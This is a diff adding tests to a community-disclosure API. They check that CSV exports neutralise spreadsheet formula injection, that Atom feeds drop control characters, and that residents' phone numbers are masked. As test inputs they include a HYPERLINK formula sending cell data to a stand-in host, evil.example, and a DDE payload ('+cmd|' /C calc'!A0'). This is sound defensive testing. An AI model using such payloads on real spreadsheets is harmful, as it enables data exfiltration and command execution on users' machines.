@@ -253,3 +253,46 @@ async def test_finance_amounts_past_the_bound_are_a_422_naming_the_line(disclosu
             {"fund_type": "party_service", "income_cents": 10**400, "expenditure_cents": 0, "balance_cents": 0}]})
     assert resp.status_code == 422, resp.text
     assert resp.json()["errors"][0]["field"] == "lines.0.income_cents"
+
+
+async def test_exports_and_feeds_carry_staff_text_safely(disclosure):
+    # A title that would run as a spreadsheet formula, and control characters XML cannot carry.
+    community = new_community()
+    staff = disclosure.token("community_staff", community)
+    for title in ('=HYPERLINK("http://evil.example/?x="&A1,"点击")', "通知\x0b第二\x1b行"):
+        made = await disclosure.client.post("/api/v1/disclosure/items", headers=staff, json={
+            "unit_code": community, "kind": "residents", "category": "notice", "title": title, "body": "内容"})
+        assert made.status_code == 201, made.text
+    await disclosure.client.post("/api/v1/disclosure/finance-statements", headers=staff, json={
+        "unit_code": community, "period": "2026-10", "lines": [
+            {"fund_type": "party_service", "income_cents": 100, "expenditure_cents": 0, "balance_cents": -250,
+             "note": "+cmd|' /C calc'!A0"}]})
+    import csv as csv_module
+    import io
+
+    items = await disclosure.client.get("/public/v1/items.csv", params={"unit": community})
+    cells = [c for row in csv_module.reader(io.StringIO(items.content.decode("utf-8-sig"))) for c in row]
+    assert not any(c.startswith(("=", "+", "@")) for c in cells), cells
+    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")" in cells
+    lines = await disclosure.client.get("/public/v1/items.csv", params={"unit": community, "lines": True})
+    line_cells = [c for row in csv_module.reader(io.StringIO(lines.content.decode("utf-8-sig"))) for c in row]
+    assert "'+cmd|' /C calc'!A0" in line_cells and "-2.50" in line_cells  # amounts stay numbers
+    feed = await disclosure.client.get(f"/public/v1/units/{community}/feed.atom")
+    root = ET.fromstring(feed.content)  # well-formed
+    titles = [e.findtext("{http://www.w3.org/2005/Atom}title") for e in root.findall("{http://www.w3.org/2005/Atom}entry")]
+    assert "通知第二行" in titles
+
+
+async def test_a_phone_number_a_resident_types_into_a_question_is_masked_however_written(disclosure):
+    community = new_community()
+    item = await post(disclosure, community, "公示")
+    resident = disclosure.token("resident", community + "001001010001")
+    bodies = ["我的手机Tel13912345678请回电", "微信wx13912345679", "电话139.1234.5670"]
+    for body in bodies:
+        asked = await disclosure.client.post(f"/api/v1/disclosure/items/{item['id']}/questions", headers=resident,
+                                             json={"kind": "question", "body": body})
+        assert asked.status_code == 201, asked.text
+    public = (await disclosure.client.get(f"/public/v1/items/{item['id']}")).text
+    for number in ("13912345678", "13912345679", "139.1234.5670"):
+        assert number not in public
+    assert public.count("139****") >= 3
